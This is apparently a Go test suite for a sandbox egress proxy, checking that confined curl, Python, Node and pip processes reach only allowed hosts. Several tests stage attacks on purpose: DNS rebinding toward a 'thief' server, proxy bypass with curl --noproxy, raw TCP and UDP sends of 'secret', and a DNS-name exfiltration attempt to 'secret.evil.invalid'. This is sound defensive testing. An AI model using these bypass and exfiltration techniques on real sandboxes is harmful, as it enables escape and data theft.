//go:build linux

package egress_test

import (
	"context"
	"encoding/base64"
	"encoding/pem"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"conclave/app/gate"
	"conclave/app/net/egress"
	"conclave/app/plugin"
	"conclave/app/plugin/sandbox"
	"conclave/app/plugin/worker"
	"conclave/app/test/programtest"
	"conclave/app/test/testkit"

	"golang.org/x/net/dns/dnsmessage"
)

var must = testkit.Must

func TestMain(m *testing.M) { programtest.Main(m) }

// world is a launcher whose processes have a way out, and servers of this computer.
type world struct {
	t        testing.TB
	launcher *worker.Launcher
	pass     *egress.Pass

	mu      sync.Mutex
	allowed []string // targets as URLs
	lookups int      // of addresses of names
	own     string   // an address that nobody may connect to, whatever is allowed
}

// answer says of every name that it is at an address of this computer; of rebind.test at another
// each time.
func (w *world) answer(query []byte) []byte {
	var m dnsmessage.Message
	if m.Unpack(query) != nil || len(m.Questions) != 1 {
		return nil
	}
	m.Response, m.Additionals = true, nil
	if q := m.Questions[0]; q.Type == dnsmessage.TypeA {
		w.mu.Lock()
		w.lookups++
		at := [4]byte{127, 0, 0, 1}
		if q.Name.String() == "rebind.test." && w.lookups%2 == 0 {
			at[3] = 2
		}
		w.mu.Unlock()
		m.Answers = []dnsmessage.Resource{{
			Header: dnsmessage.ResourceHeader{Name: q.Name, Class: q.Class}, Body: &dnsmessage.AResource{A: at},
		}}
	}
	answer, err := m.Pack()
	must(w.t, err)
	return answer
}

func newWorld(t testing.TB) *world {
	t.Helper()
	w := &world{t: t, launcher: worker.New(worker.Options{Program: programtest.Worker(t)})}
	t.Cleanup(w.launcher.Close)
	programtest.Held(t, w.launcher.Confinement())
	ask := func(_ context.Context, _ string, to egress.Target) egress.Verdict {
		w.mu.Lock()
		defer w.mu.Unlock()
		return egress.Verdict{
			Allow: slices.Contains(w.allowed, to.URL), Private: to.Host != "public.test", Reason: "nobody allowed it",
		}
	}
	own := func(at netip.AddrPort) bool { w.mu.Lock(); defer w.mu.Unlock(); return at.String() == w.own }
	proxy := egress.New(egress.Options{Resolver: egress.Resolver(w.t, w.answer), Ask: ask, Own: own})
	t.Cleanup(proxy.Close)
	pass, err := proxy.Admit("p")
	must(t, err)
	w.pass = pass
	return w
}

// run runs a program behind the walls and returns what it printed.
func (w *world) run(spec sandbox.Spec, argv ...string) string {
	w.t.Helper()
	start := plugin.StartOptions{
		Granted: []string{gate.Network},
		Proxy:   plugin.Proxy{Address: w.pass.Address(), URL: w.pass.URL()},
	}
	spec.Kind, spec.Argv = "command", argv
	spec.Env = append(spec.Env, "LANG=C.UTF-8")
	spec.Read = append(spec.Read, "/usr", "/lib", "/lib64", "/etc/ld.so.cache", "/proc/self", "/sys/fs/cgroup")
	spec.Execute = append(spec.Execute, argv[0], "/lib64", "/lib")
	start.ApplyPermissions(&spec)
	p, err := w.launcher.Start(w.t.Context(), spec)
	must(w.t, err)
	out, err := io.ReadAll(p.Wire())
	must(w.t, err)
	<-p.Done()
	return strings.TrimSpace(string(out) + p.Stderr())
}

// program returns a program of this computer, links resolved.
func program(t testing.TB, name string) string {
	t.Helper()
	path, err := exec.LookPath(name)
	if err == nil {
		path, err = filepath.EvalSymlinks(path)
	}
	if err != nil {
		t.Skip("there is no", name, "here")
	}
	return path
}

// servers are one that is allowed, with and without TLS, and one that is not. Each
// says its name, and leads on where it is asked to.
func (w *world) servers() (plain, secure, refused, certificate string) {
	w.t.Helper()
	serve := func(name string) http.HandlerFunc {
		return func(rw http.ResponseWriter, r *http.Request) {
			if to := r.URL.Query().Get("to"); to != "" {
				http.Redirect(rw, r, to, http.StatusFound)
				return
			}
			_, _ = io.WriteString(rw, "from "+name)
		}
	}
	a, b := httptest.NewServer(serve("plain")), httptest.NewTLSServer(serve("secure"))
	c := httptest.NewServer(serve("refused"))
	w.t.Cleanup(func() { a.Close(); b.Close(); c.Close() })
	certificate = filepath.Join(w.t.TempDir(), "ca.pem")
	must(w.t, os.WriteFile(certificate, pem.EncodeToMemory(&pem.Block{
		Type: "CERTIFICATE", Bytes: b.Certificate().Raw,
	}), 0o600))
	w.allowed = []string{a.URL, b.URL}
	return a.URL, b.URL, c.URL, certificate
}

func TestCurlBehindTheProxy(t *testing.T) {
	w := newWorld(t)
	curl := program(t, "curl")
	plain, secure, refused, certificate := w.servers()
	spec := sandbox.Spec{Read: []string{certificate}}
	for _, c := range []struct{ address, want string }{
		{plain, "from plain"},
		{secure, "from secure"},
		{refused, "PERMISSION_DENIED"},
		{strings.Replace(refused, "http:", "https:", 1), "CONNECT tunnel failed, response 403"},
		{plain + "?to=" + refused, "PERMISSION_DENIED"},
		{plain + "?to=" + secure, "from secure"},
		{"http://nobody.invalid", "PERMISSION_DENIED"},
	} {
		if got := w.run(spec, curl, "-sSL", "--cacert", certificate, c.address); !strings.Contains(got, c.want) {
			t.Errorf("%s: %q, want %q", c.address, got, c.want)
		}
	}
}

func TestProgramsBehindTheProxyByIPv6(t *testing.T) {
	w := newWorld(t)
	curl := program(t, "curl")
	l, err := net.Listen("tcp6", "[::1]:0")
	if err != nil {
		t.Skip("this computer has no IPv6:", err)
	}
	server := httptest.NewUnstartedServer(http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
		_, _ = io.WriteString(rw, "from six")
	}))
	_ = server.Listener.Close()
	server.Listener = l
	server.Start()
	defer server.Close()
	if got := w.run(sandbox.Spec{}, curl, "-sS", "--noproxy", "*", server.URL); !strings.Contains(got, "curl: (7)") {
		t.Errorf("without the proxy: %q", got)
	}
	const get = "import sys, urllib.request as r\ntry: print(r.urlopen(sys.argv[1]).read())\nexcept OSError as e: print(e)"
	programs := map[string][]string{
		"curl": {curl, "-sS", server.URL}, "Python": {program(t, "/usr/bin/python3"), "-I", "-S", "-c", get, server.URL},
		"Node": {program(t, "node"), "-e", nodeGet, server.URL},
	}
	spec := sandbox.Spec{Memory: 4 << 30}
	for name, argv := range programs {
		if got := w.run(spec, argv...); !strings.Contains(got, "PERMISSION_DENIED") && !strings.Contains(got, "403") {
			t.Errorf("%s, refused: %q", name, got)
		}
	}
	w.mu.Lock()
	w.allowed = []string{server.URL}
	w.mu.Unlock()
	for name, argv := range programs {
		if got := w.run(spec, argv...); !strings.Contains(got, "from six") {
			t.Errorf("%s, allowed: %q", name, got)
		}
	}
}

// A name that is allowed and of the internet leads nowhere on this computer, whatever a
// server of names says of it and whenever.
func TestAttackAProgramWithANameThatLeadsHere(t *testing.T) {
	w := newWorld(t)
	plain, _, _, _ := w.servers()
	_, port, err := net.SplitHostPort(strings.TrimPrefix(plain, "http://"))
	must(t, err)
	w.allowed = []string{"http://public.test:" + port, "https://public.test:" + port}
	const get = "import sys, urllib.request as r\ntry: print(r.urlopen(sys.argv[1]).read())\nexcept OSError as e: print(e)"
	for _, argv := range [][]string{
		{program(t, "curl"), "-sS", "http://public.test:" + port},
		{program(t, "curl"), "-sS", "--proxytunnel", "http://public.test:" + port},
		{program(t, "curl"), "-sS", "--resolve", "public.test:" + port + ":127.0.0.1", "http://public.test:" + port},
		{program(t, "/usr/bin/python3"), "-I", "-S", "-c", get, "http://public.test:" + port},
	} {
		w.mu.Lock()
		w.lookups = 0
		w.mu.Unlock()
		got := w.run(sandbox.Spec{}, argv...)
		if strings.Contains(got, "from plain") || !strings.Contains(got, "403") &&
			!strings.Contains(got, "its address is of this computer or its own network") {
			t.Errorf("%v: %q", argv[1:], got)
		}
		w.mu.Lock()
		if w.lookups != 1 {
			t.Errorf("%v: the name was looked up %d times", argv[1:], w.lookups)
		}
		w.mu.Unlock()
	}
}

// A name server of the attacker's own says at one time where a program may connect to, and at the
// next where it may not: what is connected to is what was looked at.
func TestAttackAProgramWithANameServerThatChangesItsMind(t *testing.T) {
	w := newWorld(t)
	good := httptest.NewUnstartedServer(http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
		_, _ = io.WriteString(rw, "from plain")
	}))
	good.Config.SetKeepAlivesEnabled(false) // a connection that is kept stays where it is
	good.Start()
	t.Cleanup(good.Close)
	_, port, err := net.SplitHostPort(strings.TrimPrefix(good.URL, "http://"))
	must(t, err)
	l, err := net.Listen("tcp", "127.0.0.2:"+port)
	if err != nil {
		t.Skip("this computer has no 127.0.0.2:", err)
	}
	var stolen atomic.Int64
	thief := httptest.NewUnstartedServer(http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
		stolen.Add(1)
		_, _ = io.WriteString(rw, "from thief")
	}))
	_ = thief.Listener.Close()
	thief.Listener = l
	thief.Config.SetKeepAlivesEnabled(false)
	thief.Start()
	t.Cleanup(thief.Close)
	w.mu.Lock()
	w.own, w.allowed = "127.0.0.2:"+port, []string{"http://rebind.test:" + port}
	w.mu.Unlock()
	to := "http://rebind.test:" + port
	const times = 6
	for name, argv := range map[string][]string{
		"curl": {
			program(t, "curl"), "-sS", "-H", "Connection: close", to, "--next", to, "--next", to,
			"--next", to, "--next", to, "--next", to,
		},
		"Python": {
			program(t, "/usr/bin/python3"), "-I", "-S", "-c", "import sys, urllib.request as r\nfor i in range(6):\n" +
				" try: print(r.urlopen(sys.argv[1]).read())\n except OSError as e: print(e)", to,
		},
	} {
		w.mu.Lock()
		w.lookups = 0
		w.mu.Unlock()
		got := w.run(sandbox.Spec{}, argv...)
		w.mu.Lock()
		lookups := w.lookups
		w.mu.Unlock()
		t.Logf("stopped by: %s, with %d lookups for %d requests, got %q", name, lookups, times, got)
		if n := stolen.Load(); n > 0 || strings.Contains(got, "from thief") {
			t.Errorf("%s: the thief was reached %d times: %q", name, n, got)
		}
		if !strings.Contains(got, "from plain") || !strings.Contains(got, "its address is of this computer") &&
			!strings.Contains(got, "403") {
			t.Errorf("%s: %q, of answers and refusals", name, got)
		}
		if lookups > times {
			t.Errorf("%s: the name was looked up %d times for %d requests", name, lookups, times)
		}
	}
	w.mu.Lock()
	w.own = ""
	w.mu.Unlock()
	w.run(sandbox.Spec{}, program(t, "curl"), "-sS", to)
	w.run(sandbox.Spec{}, program(t, "curl"), "-sS", to)
	if stolen.Load() == 0 {
		t.Error("where the other address may be connected to, it is not")
	}
}

func TestAttackCurlThatUsesNoProxy(t *testing.T) {
	w := newWorld(t)
	curl := program(t, "curl")
	plain, _, _, _ := w.servers()
	for _, how := range [][]string{
		{"--noproxy", "*"}, {"--noproxy", "*", "--tcp-fastopen"}, {"--noproxy", "*", "--interface", "lo"},
	} {
		got := w.run(sandbox.Spec{}, append([]string{curl, "-sS"}, append(how, plain)...)...)
		if strings.Contains(got, "from plain") || !strings.Contains(got, "curl: (") {
			t.Errorf("%v: %q", how, got)
		}
	}
	if got := w.run(sandbox.Spec{}, curl, "-sS", "--noproxy", "*", "http://example.org"); !strings.Contains(got,
		"Could not resolve host") {
		t.Errorf("a name: %q", got)
	}
	if got := w.run(sandbox.Spec{}, curl, "-sS", plain); got != "from plain" {
		t.Errorf("with the proxy: %q", got)
	}
}

func TestPythonsOwnLibraryBehindTheProxy(t *testing.T) {
	w := newWorld(t)
	python := program(t, "/usr/bin/python3")
	plain, secure, refused, certificate := w.servers()
	const get = `
import ssl, sys, urllib.request
address, certificate = sys.argv[1:]
try: print(urllib.request.urlopen(address, context=ssl.create_default_context(cafile=certificate)).read().decode())
except OSError as error: print(error)
`
	for _, c := range []struct{ address, want string }{
		{plain, "from plain"},
		{secure, "from secure"},
		{refused, "HTTP Error 403"},
		{strings.Replace(refused, "http:", "https:", 1), "Tunnel connection failed: 403 PERMISSION_DENIED: network"},
		{plain + "?to=" + refused, "HTTP Error 403"},
	} {
		got := w.run(sandbox.Spec{Read: []string{certificate}}, python, "-I", "-S", "-c", get, c.address, certificate)
		if !strings.Contains(got, c.want) {
			t.Errorf("%s: %q, want %q", c.address, got, c.want)
		}
	}
}

// nodeGet fetches an address with what this Node has.
const nodeGet = `
const [address] = process.argv.slice(1);
if (process.allowedNodeEnvironmentFlags.has("--use-env-proxy")) {
  fetch(address).then(r => r.text()).then(t => console.log(t), e => console.log(String(e.cause ?? e)));
} else {
  const proxy = new URL(process.env.HTTP_PROXY);
  const headers = {"Proxy-Authorization": "Basic " + btoa(proxy.username + ":" + proxy.password), Host: new URL(address).host};
  require("http").get({host: proxy.hostname, port: proxy.port, path: address, headers}, r => r.pipe(process.stdout));
}`

// Node's fetch reads the variables from version 24 on. What older ones have without a
// package is http.request, told of the proxy.
func TestNodeBehindTheProxy(t *testing.T) {
	w := newWorld(t)
	node := program(t, "node")
	plain, _, refused, _ := w.servers()
	spec := sandbox.Spec{Memory: 4 << 30}
	for address, want := range map[string]string{plain: "from plain", refused: "PERMISSION_DENIED"} {
		if got := w.run(spec, node, "-e", nodeGet, address); !strings.Contains(got, want) {
			t.Errorf("%s: %q, want %q", address, got, want)
		}
	}
	// Whatever the version, what takes no notice of the proxy connects to nothing: neither
	// to an address, allowed or not, nor to what a name stands for.
	const without = `
delete process.env.NODE_USE_ENV_PROXY;
const [, address] = process.argv, {hostname, port} = new URL(address);
const say = name => e => console.log(name, e.cause?.code ?? e.code);
if (!process.allowedNodeEnvironmentFlags.has("--use-env-proxy")) {
  fetch(address).then(() => console.log("fetch reached it"), say("fetch"));
  fetch("http://name.invalid/").then(() => console.log("fetch reached it"), say("name"));
}
require("net").connect(port, hostname).on("connect", () => console.log("socket reached it")).on("error", say("socket"));
require("dgram").createSocket("udp4").on("error", say("datagram")).send("secret", port, hostname);`
	for _, address := range []string{plain, refused} {
		got := w.run(spec, node, "-e", without, address)
		lines := strings.Split(got, "\n")
		slices.Sort(lines)
		want := []string{"datagram EACCES", "socket EACCES"}
		if strings.Contains(got, "fetch") {
			want = []string{"datagram EACCES", "fetch EACCES", "name EAI_AGAIN", "socket EACCES"}
		}
		if !slices.Equal(lines, want) {
			t.Errorf("%s past the proxy: %q, want %q", address, lines, want)
		}
	}
}

func TestPipBehindTheProxy(t *testing.T) {
	w := newWorld(t)
	python := program(t, "/usr/bin/python3")
	if out, err := exec.CommandContext(t.Context(), python, "-m", "pip", "--version").CombinedOutput(); err != nil {
		t.Skipf("there is no pip here: %s", out)
	}
	wheel, err := base64.StdEncoding.DecodeString(tinyWheel)
	must(t, err)
	index := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/simple/tiny/":
			rw.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(rw, `<a href="/tiny-1.0-py3-none-any.whl">tiny-1.0-py3-none-any.whl</a>`)
		case "/tiny-1.0-py3-none-any.whl":
			_, _ = rw.Write(wheel)
		default:
			http.NotFound(rw, r)
		}
	}))
	defer index.Close()
	folder := t.TempDir()
	argv := []string{
		python, "-I", "-m", "pip", "download", "--isolated", "--no-cache-dir", "--disable-pip-version-check",
		"--retries", "0", "--timeout", "120", "--no-deps", "-d", folder, "-i", index.URL + "/simple/",
		"--trusted-host", "127.0.0.1", "tiny",
	}
	spec := sandbox.Spec{Env: []string{"HOME=" + folder, "TMPDIR=" + folder}, Write: []string{folder}, Dir: folder}
	spec.Read = []string{"/etc"}
	if got := w.run(spec, argv...); strings.Contains(got, "Saved ") || !strings.Contains(got, "403") &&
		!strings.Contains(got, "No matching distribution") {
		t.Errorf("refused: %q", got)
	}
	w.allowed = []string{index.URL}
	if got := w.run(spec, argv...); !strings.Contains(got, "Successfully downloaded tiny") {
		t.Errorf("allowed: %q", got)
	}
}

// What a plugin could try that knows no proxy: names, datagrams, and a server of names.
func TestAttackATunnelThroughTheNameService(t *testing.T) {
	w := newWorld(t)
	python := program(t, "/usr/bin/python3")
	names, err := net.ListenPacket("udp", "127.0.0.1:0")
	must(t, err)
	defer func() { _ = names.Close() }()
	over := make(chan string, 1)
	go func() { // ended by closing the connection
		buf := make([]byte, 512)
		n, _, err := names.ReadFrom(buf)
		if err == nil {
			over <- string(buf[:n])
		}
		close(over)
	}()
	_, port, err := net.SplitHostPort(names.LocalAddr().String())
	must(t, err)
	const out = `
import socket, sys
to = ("127.0.0.1", int(sys.argv[1]))
def attempt(name, do):
    try: do(); print(name, "done")
    except OSError as e: print(name, "refused")
attempt("datagram", lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"secret", to))
attempt("name", lambda: socket.getaddrinfo("secret.evil.invalid", 80))
attempt("by TCP", lambda: socket.create_connection(to))
`
	got := w.run(sandbox.Spec{}, python, "-I", "-S", "-c", out, port)
	if want := "datagram refused\nname refused\nby TCP refused"; got != want {
		t.Errorf("%q, want %q", got, want)
	}
	_ = names.Close()
	if said, ok := <-over; ok {
		t.Errorf("the name server was told %q", said)
	}
}

// tinyWheel is a package of one line.
const tinyWheel = "UEsDBBQAAAAAAAAAIVA7ifaLBgAAAAYAAAAHAAAAdGlueS5weXggPSAxClBLAwQUAAAAAAAAACFQ0qXdeS4AAAAuAAAAGwAA" +
	"AHRpbnktMS4wLmRpc3QtaW5mby9NRVRBREFUQU1ldGFkYXRhLVZlcnNpb246IDIuMQpOYW1lOiB0aW55ClZlcnNpb246IDEu" +
	"MApQSwMEFAAAAAAAAAAhUKpl5BVIAAAASAAAABgAAAB0aW55LTEuMC5kaXN0LWluZm8vV0hFRUxXaGVlbC1WZXJzaW9uOiAx" +
	"LjAKR2VuZXJhdG9yOiB4ClJvb3QtSXMtUHVyZWxpYjogdHJ1ZQpUYWc6IHB5My1ub25lLWFueQpQSwMEFAAAAAAAAAAhUCiQ" +
	"Q5RfAAAAXwAAABkAAAB0aW55LTEuMC5kaXN0LWluZm8vUkVDT1JEdGlueS5weSwsCnRpbnktMS4wLmRpc3QtaW5mby9NRVRB" +
	"REFUQSwsCnRpbnktMS4wLmRpc3QtaW5mby9XSEVFTCwsCnRpbnktMS4wLmRpc3QtaW5mby9SRUNPUkQsLApQSwECFAMUAAAA" +
	"AAAAACFQO4n2iwYAAAAGAAAABwAAAAAAAAAAAAAAgAEAAAAAdGlueS5weVBLAQIUAxQAAAAAAAAAIVDSpd15LgAAAC4AAAAb" +
	"AAAAAAAAAAAAAACAASsAAAB0aW55LTEuMC5kaXN0LWluZm8vTUVUQURBVEFQSwECFAMUAAAAAAAAACFQqmXkFUgAAABIAAAA" +
	"GAAAAAAAAAAAAAAAgAGSAAAAdGlueS0xLjAuZGlzdC1pbmZvL1dIRUVMUEsBAhQDFAAAAAAAAAAhUCiQQ5RfAAAAXwAAABkA" +
	"AAAAAAAAAAAAAIABEAEAAHRpbnktMS4wLmRpc3QtaW5mby9SRUNPUkRQSwUGAAAAAAQABAALAQAApgEAAAAA"
